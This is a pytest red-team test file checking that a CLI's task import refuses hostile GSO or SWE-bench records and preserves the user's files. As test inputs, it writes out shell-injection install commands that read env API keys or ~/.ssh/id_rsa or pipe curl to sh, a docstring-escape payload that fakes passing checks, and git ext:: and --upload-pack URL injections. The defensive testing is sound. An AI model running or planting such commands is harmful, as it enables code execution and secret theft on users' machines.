"""Red team, `perfagent tasks import`: a GSO or SWE-bench record is someone else's text. Nothing in it may
run on this machine, become code, or cost the user a file. Each attack is a records file imported through
the CLI (`perfagent tasks import`, in-process), into a folder that may already hold the user's own task.

| attack (a record that ...)                                               | must hold                            |
|--------------------------------------------------------------------------|--------------------------------------|
| has an install command that is shell: `; (id; env) > FILE`, `&&`, `|`,   | refused at import: exit 2, one line  |
|   `$()`, backticks, a redirect, env prefix, `export`; or a pip install   |   naming the command; nothing        |
|   of a URL, a path, `-e`, another index, find-links; or `uv venv         |   written                            |
|   --python` a path                                                       |                                      |
| has a base_commit that closes the runner's docstring and runs code      | refused at import (both formats,     |
|   (three quotes, then `print("PASSED"); sys.exit(0)`), path and URL repo |   path and URL repo); nothing written|
| has the instance_id of the user's own task in the folder it goes to      | refused without --force: the user's  |
|                                                                          |   files byte-identical               |
| does that and then fails validation (with --force, or without)          | the user's files byte-identical      |
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest
from helpers import make_repo

from redteam.lab import AGENT_ROOT, tree_state

SECRET_CMD = "pip --version >/dev/null; (id; hostname; env | grep API_KEY) > {marker}; true"
SHELL_INSTALLS = {
    "semicolon": SECRET_CMD,
    "and": "pip install requests && curl -s http://127.0.0.1:9/x | sh",
    "pipe": "pip install requests | tee {marker}",
    "substitution": "pip install $(cat ~/.ssh/id_rsa)",
    "backticks": "pip install `id`",
    "redirect": "pip install requests > {marker}",
    "env-prefix": "PIP_INDEX_URL=http://127.0.0.1:9/simple pip install requests",
    "export": "export PIP_INDEX_URL=http://127.0.0.1:9/simple",
    "url": "pip install https://127.0.0.1:9/evil-1.0.tar.gz",
    "editable-vcs": "pip install -e git+https://127.0.0.1:9/evil.git#egg=evil",
    "path": "pip install /tmp/evil",
    "index-url": "uv pip install --index-url http://127.0.0.1:9/simple requests",
    "short-index": "python -m pip install -i http://127.0.0.1:9/simple requests",
    "extra-index": "pip install --extra-index-url http://127.0.0.1:9/simple requests",
    "find-links": "pip install --find-links /tmp/wheels requests",
    "python-path": "uv venv --python ../../../tmp/evil",
}
PAYLOAD_BASE = '"""\nimport sys; print("PASSED"); sys.exit(0)\n"""'
RAISES = "def run_test(eqcheck=False, reference=False, prefix=''):\n    raise RuntimeError('always fails')\n"


def write_records(path: Path, *records: dict) -> Path:
    path.write_text("".join(json.dumps(r) + "\n" for r in records))
    return path


def gso_record(instance_id: str, repo: str, base: str, **more) -> dict:
    return {"instance_id": instance_id, "repo": repo, "base_commit": base, "api": "pkg.mod.work",
            "prob_script": RAISES, **more}


def swe_record(instance_id: str, repo: str, base: str) -> dict:
    return {"instance_id": instance_id, "repo": repo, "base_commit": base, "patch": "",
            "problem_statement": "work() is slow", "FAIL_TO_PASS": [], "PASS_TO_PASS": ["tests/test_mod.py::test_w"]}


def one_line_error(ran) -> str:
    assert "Traceback" not in ran.stderr, ran.stderr
    lines = [ln for ln in ran.stderr.splitlines() if ln.strip()]
    assert len(lines) == 1, ran.stderr
    return lines[0]


@pytest.mark.parametrize("variant", list(SHELL_INSTALLS))
def test_an_install_command_that_is_not_a_pip_install_of_names_refuses_the_record(tmp_path, perfagent, variant):
    """Attack: install_commands carries shell (or a package source of its choosing) for `[setup] venv`, which
    runs through bash on the host at the first check."""
    marker = tmp_path / "stolen.txt"
    cmd = SHELL_INSTALLS[variant].format(marker=marker)
    records = write_records(tmp_path / "gso.jsonl", gso_record(
        "acme__pkg-1", "acme/pkg", "a" * 40,
        install_commands=["uv venv --python 3.11", cmd, "uv pip install requests"]))
    out = tmp_path / "imported"
    ran = perfagent("tasks", "import", str(records), "--format", "gso", "--out", str(out))
    assert ran.returncode == 2, (ran.returncode, ran.stdout, ran.stderr)
    line = one_line_error(ran)
    assert "acme__pkg-1" in line and "not allowed" in line and cmd in line, line
    assert not out.exists() or not any(out.iterdir()), sorted(p.name for p in out.iterdir())
    assert not marker.exists()


@pytest.mark.parametrize("fmt", ["gso", "swebench"])
@pytest.mark.parametrize("where", ["path", "url"])
def test_a_base_commit_that_is_code_is_refused_at_import(tmp_path, perfagent, fmt, where):
    """Attack: base_commit closes the generated runner's docstring and makes every check print PASSED; a URL
    repo skipped the base's validation at import, a mirror's check named only an unknown commit."""
    repo = make_repo(tmp_path / "mirrors" / "acme__pkg", {"pkg/__init__.py": "", "pkg/mod.py": "def work():\n"
                                                          "    return 1\n"})
    base = repo.head.commit.hexsha + PAYLOAD_BASE
    name = "acme/pkg" if where == "path" else (tmp_path / "mirrors" / "acme__pkg").as_uri()
    record = (gso_record if fmt == "gso" else swe_record)("acme__pkg-2", name, base)
    records = write_records(tmp_path / "r.jsonl", record)
    out = tmp_path / "imported"
    repos = ["--repos", str(tmp_path / "mirrors")] if where == "path" else []
    ran = perfagent("tasks", "import", str(records), "--format", fmt, "--out", str(out), *repos)
    assert ran.returncode == 2, (ran.returncode, ran.stdout, ran.stderr)
    line = one_line_error(ran)
    assert "acme__pkg-2" in line and "base_commit" in line, line
    assert not out.exists() or not any(out.iterdir()), sorted(p.name for p in out.iterdir())


@pytest.fixture
def user_tasks(tmp_path) -> Path:
    """The user's own task folder: cuda-graph-buffers as the repo bundles it, with a folder and a reference
    diff of the names an import of that id would write."""
    folder = tmp_path / "tasks"
    folder.mkdir()
    shutil.copy(AGENT_ROOT / "tasks" / "cuda-graph-buffers.toml", folder / "cuda-graph-buffers.toml")
    (folder / "cuda-graph-buffers").mkdir()
    (folder / "cuda-graph-buffers" / "notes.md").write_text("the user's notes\n")
    shutil.copy(AGENT_ROOT / "tasks" / "reference" / "cuda-graph-buffers.diff",
                folder / "cuda-graph-buffers.reference.diff")
    return folder


def test_importing_a_record_named_like_the_users_task_leaves_the_task_alone(tmp_path, perfagent, user_tasks):
    """Attack: a record whose instance_id is the file name of the user's task, imported into that folder."""
    before = tree_state(user_tasks)
    records = write_records(tmp_path / "r.jsonl", swe_record("cuda-graph-buffers", "acme/pkg", "a" * 40))
    ran = perfagent("tasks", "import", str(records), "--format", "swebench", "--out", str(user_tasks))
    assert tree_state(user_tasks) == before, "the user's task was changed"
    assert ran.returncode == 1, (ran.returncode, ran.stdout, ran.stderr)
    line = one_line_error(ran)
    assert "cuda-graph-buffers.toml already exists" in line and "--force" in line, line
    assert sorted(p.name for p in user_tasks.iterdir()) == [
        "cuda-graph-buffers", "cuda-graph-buffers.reference.diff", "cuda-graph-buffers.toml"]


@pytest.mark.parametrize("force", [False, True])
def test_a_record_that_fails_validation_removes_nothing_of_the_users(tmp_path, perfagent, user_tasks, force):
    """Attack: the same record then fails validation (its base is no commit of the mirror): the clean-up
    removed every path it had written, the user's file included. With --force too: the new task is valid
    before anything of the user's is touched."""
    make_repo(tmp_path / "mirrors" / "acme__pkg", {"pkg/__init__.py": "", "pkg/mod.py": "def work():\n    return 1\n"})
    before = tree_state(user_tasks)
    records = write_records(tmp_path / "r.jsonl", swe_record("cuda-graph-buffers", "acme/pkg", "0" * 40))
    ran = perfagent("tasks", "import", str(records), "--format", "swebench", "--out", str(user_tasks),
                    "--repos", str(tmp_path / "mirrors"), *(["--force"] if force else []))
    assert tree_state(user_tasks) == before, "the user's task was changed or removed"
    assert ran.returncode == 1, (ran.returncode, ran.stdout, ran.stderr)
    line = one_line_error(ran)
    assert "cuda-graph-buffers" in line and ("unknown commit" if force else "already exists") in line, line
    assert sorted(p.name for p in user_tasks.iterdir()) == [
        "cuda-graph-buffers", "cuda-graph-buffers.reference.diff", "cuda-graph-buffers.toml"]


@pytest.mark.parametrize("url", ["ext::sh -c touch% {marker}", "--upload-pack=touch {marker} ://x/y",
                                 "https://127.0.0.1:9/a b --upload-pack=touch {marker}"])
def test_a_repository_url_git_would_run_or_read_as_an_option_is_refused_at_import(tmp_path, perfagent, url):
    """Attack: the record's repo is a URL (anything with `://` passed) that git would turn into a program run
    on the host at the first check: the `ext::` transport, or an option in the clone's argv."""
    marker = tmp_path / "ran.txt"
    records = write_records(tmp_path / "r.jsonl", swe_record("acme__pkg-3", url.format(marker=marker), "a" * 40))
    out = tmp_path / "imported"
    ran = perfagent("tasks", "import", str(records), "--format", "swebench", "--out", str(out))
    assert ran.returncode == (1 if url.startswith("ext::") else 2), (ran.returncode, ran.stdout, ran.stderr)
    line = one_line_error(ran)  # ext:: has no `://`: neither owner/name nor a URL, a malformed record
    assert "acme__pkg-3" in line and "repo" in line, line
    assert not out.exists() or not any(out.iterdir()), sorted(p.name for p in out.iterdir())
    assert not marker.exists()
